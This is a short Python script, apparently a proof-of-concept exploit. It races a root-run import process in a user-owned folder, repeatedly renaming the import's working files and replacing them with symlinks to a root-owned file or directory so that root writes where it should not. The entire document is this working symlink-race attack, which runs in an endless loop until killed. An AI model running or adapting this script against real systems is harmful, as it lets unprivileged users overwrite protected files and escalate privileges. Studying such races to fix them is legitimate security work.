"""A user who wants root to write where it should not, in a folder of that user's.

Usage: swap.py FOLDER NAME FILE PLACE

Names that an import uses become links to a file or a folder of root's, again and again. It says "swapping" first,
and goes on until it is killed.
"""

import os
import sys

folder, name, file, place = sys.argv[1:6]


def attempt(call, *arguments):
    try:
        call(*arguments)
        return True
    except OSError:
        return False


def links():
    names = [name + end for end in
             (".places", ".places.unfinished", ".places.unfinished-journal", ".roads", ".roads.unfinished")]
    turn = 0
    while True:
        turn += 1
        for number, one in enumerate(names):
            path = os.path.join(folder, one)
            gone = os.path.join(folder, f".gone{number}-{turn % 4}")
            link = os.path.join(folder, f".link{number}")
            if os.path.lexists(path) and not os.path.islink(path):
                attempt(os.rename, path, gone)
            attempt(os.symlink, place if "roads" in one else file, link)
            attempt(os.rename, link, path)
            # Mostly it is let through.
            if turn % 3 and os.path.islink(path):
                attempt(os.unlink, path)


print("swapping", flush=True)
links()
